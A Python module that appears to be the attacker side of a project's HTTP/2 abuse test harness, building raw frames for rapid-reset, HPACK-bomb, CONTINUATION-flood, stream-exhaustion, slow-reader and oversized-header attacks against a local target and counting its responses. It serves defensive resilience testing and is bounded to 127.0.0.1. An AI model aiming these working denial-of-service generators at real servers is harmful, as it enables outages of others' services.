"""The attacker side of ``nfmesh perf abuse``: raw HTTP/2 frames over TCP, one case at a time.

Every target faces the same bytes.  Per case an ``Attack`` gives the bytes sent after the
client preface (``first``) and then one chunk per round (``more``) until the connection is cut
or the case ends; ``attack`` reconnects when cut and counts what came back: connections opened
and cut, GOAWAY error codes, RST_STREAM frames and response HEADERS received, bytes sent.

Cases:

* ``rapid_reset``: HEADERS then RST_STREAM(CANCEL), 100 streams a round;
* ``hpack_bomb``: one 4 KB header field put in the decoder's dynamic table, then header
  blocks of 60 one-byte references to it (~240 KB decoded from 60 bytes), 20 a round;
* ``continuation_flood``: one HEADERS without END_HEADERS, then empty CONTINUATIONs forever;
* ``settings_flood``, ``ping_flood``, ``priority_flood``: 200 such frames a round;
* ``stream_exhaustion``: POST ``/hold`` HEADERS without END_STREAM (a request body that never
  comes), 200 streams a round: every stream stays open at any target and at the origin behind
  it (nghttpd answers a request once it has ended; the engine responder never answers /hold);
* ``garbage_preface``: 64 random bytes instead of SETTINGS after the preface;
* ``zero_window`` (slow reader): ``ZERO_WINDOW_CONNECTIONS`` connections at once, each with
  SETTINGS_INITIAL_WINDOW_SIZE=0 (and no WINDOW_UPDATE ever), opening 100 streams that GET
  ``BIG_PATH`` (a ``BIG_SIZE`` document at the origin and at the engine responder), then
  nothing: whatever the target fetched for them must wait in its buffers or at the origin;
* ``big_header``: ``big_header_probe`` on a new connection: one GET with a ``BIG_HEADER_SIZE``
  header value (an HPACK literal never indexed, no Huffman, over CONTINUATION frames of at most
  16,384 bytes), then a normal GET on the same connection; what each got (a status,
  RST_STREAM or GOAWAY with its code) is counted in ``outcomes`` and the first probe's is kept
  in ``big_header``; ``BIG_HEADER_PROBES_PER_S`` probes a second at most;
* ``idle_connections``: ``open_idle`` holds N connections (preface + SETTINGS + ACK, nothing
  else).

Bounded: ``attack`` stops at its ``stop`` event and opens at most ``max_connections``; every
write waits at most ``DRAIN_TIMEOUT_S`` for the target to read, a ``big_header`` probe waits at
most ``PROBE_TIMEOUT_S`` for its answers.  Traffic goes to 127.0.0.1.
"""

from __future__ import annotations

import asyncio
import os
import struct
import time

import hpack

from dataplane.engine import ErrorCode
from perf.peers.backend import RESPONSE_PATH

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ATTACKS = ("rapid_reset", "hpack_bomb", "continuation_flood", "settings_flood", "ping_flood",
           "priority_flood", "stream_exhaustion", "garbage_preface", "zero_window")
CASES = (*ATTACKS, "big_header", "idle_connections")
DRAIN_TIMEOUT_S = 1.0
CONNECT_TIMEOUT_S = 2.0
PROBE_TIMEOUT_S = 2.0
BIG_PATH = "/abuse/big-1mib"
BIG_SIZE = 1 << 20
ZERO_WINDOW_CONNECTIONS = 4
ZERO_WINDOW_STREAMS = 100
BIG_HEADER_SIZE = 100_000
BIG_HEADER_PROBES_PER_S = 10
MAX_FRAME = 16_384  # the smallest SETTINGS_MAX_FRAME_SIZE: every peer accepts it

# :method GET, :scheme http, :path / (static table), :authority "abuse" (not indexed): a
# request head that adds nothing to the decoder's dynamic table
_BOMB_HEAD = b"\x82\x86\x84\x01\x05abuse"
_DATA, _HEADERS, _RST_STREAM, _GOAWAY, _CONTINUATION = 0, 1, 3, 7, 9
_END_STREAM, _END_HEADERS, _PADDED, _PRIORITY = 0x1, 0x4, 0x8, 0x20


def frame(ftype: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) \
        + payload


def settings(flags: int = 0, values: tuple[tuple[int, int], ...] = ()) -> bytes:
    """A SETTINGS frame with ``values`` (identifier, value) pairs (``flags=1``: an ACK)."""
    return frame(4, flags, 0, b"".join(struct.pack(">HI", k, v) for k, v in values))


def header_frames(sid: int, block: bytes, end_stream: bool = True) -> bytes:
    """HEADERS then as many CONTINUATION frames as ``block`` needs, each of at most
    ``MAX_FRAME`` bytes; END_HEADERS on the last."""
    parts = [block[i:i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)] or [b""]
    out = []
    for i, part in enumerate(parts):
        flags = _END_HEADERS if i == len(parts) - 1 else 0
        if i == 0:
            out.append(frame(_HEADERS, flags | (_END_STREAM if end_stream else 0), sid, part))
        else:
            out.append(frame(_CONTINUATION, flags, sid, part))
    return b"".join(out)


def _headers_block(enc: hpack.Encoder, path: bytes = b"/x", method: bytes = b"GET") -> bytes:
    return enc.encode([(b":method", method), (b":scheme", b"http"), (b":authority", b"abuse"),
                       (b":path", path)])


class Attack:
    """Bytes for one connection of a case: ``first()`` after the preface, then ``more()`` in a
    loop until the connection is cut or the case ends."""

    def __init__(self, case: str) -> None:
        if case not in ATTACKS:
            raise ValueError(f"unknown attack {case!r}")
        self.case = case
        self.enc = hpack.Encoder()
        self.sid = 1
        self.opened = 0  # stream ids used

    def next_sid(self) -> int:
        sid = self.sid
        self.sid += 2
        self.opened += 1
        return sid

    def first(self) -> bytes:
        if self.case == "garbage_preface":
            return os.urandom(64)
        if self.case == "zero_window":  # SETTINGS_INITIAL_WINDOW_SIZE (0x4) = 0
            return settings(values=((0x4, 0),)) + settings(flags=1)
        out = settings() + settings(flags=1)
        if self.case == "hpack_bomb":  # one 4 KB entry, the newest in the decoder's table
            out += frame(1, 0x5, self.next_sid(), _BOMB_HEAD + b"\x40\x06x-bomb\x7f\xa1\x1e"
                         + b"b" * 4000)
        return out

    def more(self) -> bytes:
        case = self.case
        if case == "rapid_reset":
            out = []
            for _ in range(100):
                sid = self.next_sid()
                out.append(frame(1, 0x4, sid, _headers_block(self.enc)))
                out.append(frame(3, 0, sid, struct.pack(">I", ErrorCode.CANCEL)))
            return b"".join(out)
        if case == "hpack_bomb":  # blocks of indexed references to the 4 KB entry
            refs = b"\xbe" * 60  # index 62, ~240 KB decoded from 60 bytes
            return b"".join(frame(1, 0x5, self.next_sid(), _BOMB_HEAD + refs)
                            for _ in range(20))
        if case == "continuation_flood":  # one header block that never ends
            if self.sid == 1:
                return frame(1, 0x1, self.next_sid(), _headers_block(self.enc))
            return frame(9, 0, 1, b"") * 500
        if case == "settings_flood":
            return settings() * 200
        if case == "ping_flood":
            return frame(6, 0, 0, b"\x00" * 8) * 200
        if case == "priority_flood":
            return b"".join(frame(2, 0, 2 * i + 1, b"\x00\x00\x00\x00\x10") for i in range(200))
        if case == "stream_exhaustion":  # END_HEADERS only: the request body never comes
            return b"".join(frame(1, 0x4, self.next_sid(),
                                  _headers_block(self.enc, b"/hold", b"POST"))
                            for _ in range(200))
        if case == "zero_window" and self.opened == 0:  # once; then never a WINDOW_UPDATE
            return b"".join(frame(1, 0x5, self.next_sid(),
                                  _headers_block(self.enc, BIG_PATH.encode()))
                            for _ in range(ZERO_WINDOW_STREAMS))
        return b""


def new_tally() -> dict:
    """What the attacker got, filled in by ``attack`` (the JSON ``attacker`` object)."""
    return {"connections": 0, "cut": 0, "goaway": {}, "rst_stream": 0, "responses": 0,
            "bytes_sent": 0, "streams_opened": 0, "bytes_received": 0, "data_bytes": 0}


def split_frames(buf: bytes) -> tuple[list[tuple[int, int, int, bytes]], bytes]:
    """The whole HTTP/2 frames at the start of ``buf`` (type, flags, stream id, payload) and
    what is left after them (a partial frame); payloads and the rest as bytes (also used by
    the tests' raw HTTP/2 peers, ``tests/h2_frames.py``)."""
    frames = []
    while len(buf) >= 9:
        n = int.from_bytes(buf[:3], "big")
        if len(buf) < 9 + n:
            break
        frames.append((buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF,
                       bytes(buf[9:9 + n])))
        buf = buf[9 + n:]
    return frames, bytes(buf)


def _tally(got: dict, ftype: int, payload: bytes, data: bool) -> None:
    """Count one received frame in the attacker's tally: GOAWAY codes, RST_STREAMs, response
    HEADERS and (with ``data``) DATA payload bytes."""
    if ftype == _GOAWAY and len(payload) >= 8:
        name = _error_name(int.from_bytes(payload[4:8], "big"))
        got["goaway"][name] = got["goaway"].get(name, 0) + 1
    elif ftype == _RST_STREAM:
        got["rst_stream"] += 1
    elif ftype == _HEADERS:
        got["responses"] += 1
    elif ftype == _DATA and data:
        got["data_bytes"] += len(payload)


def _error_name(code: int) -> str:
    try:
        return ErrorCode(code).name
    except ValueError:
        return hex(code)


async def _read_frames(reader: asyncio.StreamReader, got: dict) -> None:
    """Read until EOF, counting GOAWAY codes, RST_STREAM and HEADERS frames, bytes and DATA
    payload bytes received."""
    buf = b""
    while True:
        data = await reader.read(65536)
        if not data:
            return
        got["bytes_received"] += len(data)
        buf += data
        frames, buf = split_frames(buf)
        for ftype, _flags, _sid, payload in frames:
            _tally(got, ftype, payload, data=True)


async def attack(port: int, case: str, stop: asyncio.Event, got: dict,
                 max_connections: int = 20_000) -> None:
    """Run ``case`` against 127.0.0.1:``port`` until ``stop``, reconnecting when cut
    (``zero_window``: ``ZERO_WINDOW_CONNECTIONS`` at once; ``big_header``: one probe after
    another, each on a new connection)."""
    if case == "big_header":
        await _big_header_loop(port, stop, got, max_connections)
    elif case == "zero_window":
        await asyncio.gather(*(_attack_connections(port, case, stop, got, max_connections)
                               for _ in range(ZERO_WINDOW_CONNECTIONS)))
    else:
        await _attack_connections(port, case, stop, got, max_connections)


async def _attack_connections(port: int, case: str, stop: asyncio.Event, got: dict,
                              max_connections: int) -> None:
    """One attacker connection at a time, reconnecting when cut, until ``stop``."""
    while not stop.is_set() and got["connections"] < max_connections:
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection("127.0.0.1", port), CONNECT_TIMEOUT_S)
        except (OSError, TimeoutError):
            await asyncio.sleep(0.01)
            continue
        got["connections"] += 1
        a = Attack(case)
        head = PREFACE + a.first()
        writer.write(head)
        got["bytes_sent"] += len(head)
        reading = asyncio.ensure_future(_read_frames(reader, got))
        try:
            while not stop.is_set() and not reading.done():
                chunk = a.more()
                if not chunk:
                    await asyncio.wait([reading], timeout=0.05)
                    continue
                writer.write(chunk)
                got["bytes_sent"] += len(chunk)
                try:
                    await asyncio.wait_for(writer.drain(), DRAIN_TIMEOUT_S)
                except TimeoutError:  # the target stopped reading: wait for it, bounded
                    await asyncio.wait([reading], timeout=0.05)
                await asyncio.sleep(0)
        except (ConnectionError, OSError):
            pass
        if not reading.done():
            await asyncio.wait([reading], timeout=0.01)
        if reading.done():
            got["cut"] += 1
        got["streams_opened"] += a.opened
        reading.cancel()
        writer.close()


def big_header_request(sid: int = 1) -> bytes:
    """HEADERS + CONTINUATIONs of a GET carrying ``x-big: 'a' * BIG_HEADER_SIZE`` (never
    indexed, no Huffman: the block is ~100 KB on the wire too), then a normal GET on stream
    ``sid + 2``, both with their own encoder state carried over (one connection)."""
    enc = hpack.Encoder()
    head = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"abuse"),
            (b":path", RESPONSE_PATH.encode())]
    big = enc.encode([*head, (b"x-big", b"a" * BIG_HEADER_SIZE, True)], huffman=False)
    return header_frames(sid, big) + header_frames(sid + 2, enc.encode(head, huffman=False))


class _Outcomes:
    """Reads a connection's frames and says, per stream, what it got: its ``:status``, an
    ``RST_STREAM <code>``, a ``GOAWAY <code>`` (a stream above the GOAWAY's last stream id, or
    any still open when the connection ends after a GOAWAY), ``closed`` (the connection ended
    without either) or, when nothing came in time, ``no answer``."""

    def __init__(self, sids: tuple[int, ...]) -> None:
        self.sids = sids
        self.got: dict[int, str] = {}
        self.goaway: str | None = None
        self.dec = hpack.Decoder()
        self.dec.max_header_list_size = 1 << 20
        self.block = b""
        self.block_sid = 0

    def done(self) -> bool:
        return all(s in self.got for s in self.sids)

    def _set(self, sid: int, what: str) -> None:
        if sid in self.sids and sid not in self.got:
            self.got[sid] = what

    def _headers(self, sid: int, flags: int, payload: bytes, ftype: int) -> None:
        if ftype == _HEADERS:
            if flags & _PADDED and payload:
                pad = payload[0]
                payload = payload[1:len(payload) - pad]
            if flags & _PRIORITY:
                payload = payload[5:]
            self.block, self.block_sid = payload, sid
        else:
            self.block += payload
        if not flags & _END_HEADERS:
            return
        try:  # every block is decoded, in order: the decoder's table follows the target's
            fields = dict(self.dec.decode(self.block, raw=True))
        except hpack.HPACKError as exc:
            self._set(self.block_sid, f"undecodable response ({type(exc).__name__})")
            return
        status = fields.get(b":status", b"")
        if status and not status.startswith(b"1"):
            self._set(self.block_sid, status.decode("ascii", "replace"))

    def feed(self, ftype: int, flags: int, sid: int, payload: bytes) -> None:
        if ftype in (_HEADERS, _CONTINUATION):
            self._headers(sid, flags, payload, ftype)
        elif ftype == _RST_STREAM and len(payload) >= 4:
            self._set(sid, f"RST_STREAM {_error_name(int.from_bytes(payload[:4], 'big'))}")
        elif ftype == _GOAWAY and len(payload) >= 8:
            last = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
            self.goaway = f"GOAWAY {_error_name(int.from_bytes(payload[4:8], 'big'))}"
            for s in self.sids:
                if s > last:
                    self._set(s, self.goaway)

    def ended(self, timed_out: bool) -> None:
        for s in self.sids:
            self._set(s, "no answer" if timed_out else (self.goaway or "closed"))


async def big_header_probe(port: int, got: dict) -> tuple[str, str] | None:
    """One connection: the big-header GET (stream 1) then a normal GET (stream 3); returns
    what each got, or None when the connection could not be opened."""
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection("127.0.0.1", port), CONNECT_TIMEOUT_S)
    except (OSError, TimeoutError):
        return None
    got["connections"] += 1
    got["streams_opened"] += 2
    out = _Outcomes((1, 3))
    data = PREFACE + settings() + settings(flags=1) + big_header_request(1)
    timed_out = True
    try:
        writer.write(data)
        got["bytes_sent"] += len(data)
        deadline = time.monotonic() + PROBE_TIMEOUT_S
        buf = b""
        while not out.done():
            left = deadline - time.monotonic()
            if left <= 0:
                break
            try:
                chunk = await asyncio.wait_for(reader.read(65536), left)
            except TimeoutError:
                break
            if not chunk:
                timed_out = False
                got["cut"] += 1
                break
            got["bytes_received"] += len(chunk)
            buf += chunk
            frames, buf = split_frames(buf)
            for ftype, flags, sid, payload in frames:
                _tally(got, ftype, payload, data=False)
                out.feed(ftype, flags, sid, payload)
    except (ConnectionError, OSError):
        timed_out = False
        got["cut"] += 1
    finally:
        writer.close()
    out.ended(timed_out)
    return out.got[1], out.got[3]


async def _big_header_loop(port: int, stop: asyncio.Event, got: dict,
                           max_connections: int) -> None:
    """``big_header_probe`` after probe until ``stop``, ``BIG_HEADER_PROBES_PER_S`` a second
    at most; ``got["big_header"]``: the first probe's answers, ``got["outcomes"]``: counts."""
    got.setdefault("outcomes", {})
    while not stop.is_set() and got["connections"] < max_connections:
        t0 = time.monotonic()
        res = await big_header_probe(port, got)
        if res is not None:
            got.setdefault("big_header", {"big": res[0], "next": res[1]})
            key = f"{res[0]} / {res[1]}"
            got["outcomes"][key] = got["outcomes"].get(key, 0) + 1
        pause = 1 / BIG_HEADER_PROBES_PER_S - (time.monotonic() - t0)
        if pause > 0:
            try:
                await asyncio.wait_for(stop.wait(), pause)
            except TimeoutError:
                pass


async def open_idle(port: int, n: int, got: dict) -> list[asyncio.StreamWriter]:
    """Open ``n`` connections to 127.0.0.1:``port`` that send the preface and SETTINGS and then
    nothing; returns their writers (close them).  Stops early (noting why in ``got["error"]``)
    when a connection cannot be opened, e.g. out of descriptors."""
    held: list[asyncio.StreamWriter] = []
    for _ in range(n):
        try:
            _, w = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port),
                                          CONNECT_TIMEOUT_S)
        except (OSError, TimeoutError) as exc:
            got["error"] = f"{len(held)} idle connections opened: {exc!r}"
            break
        w.write(PREFACE + settings() + settings(flags=1))
        held.append(w)
    got["connections"] = len(held)
    return held
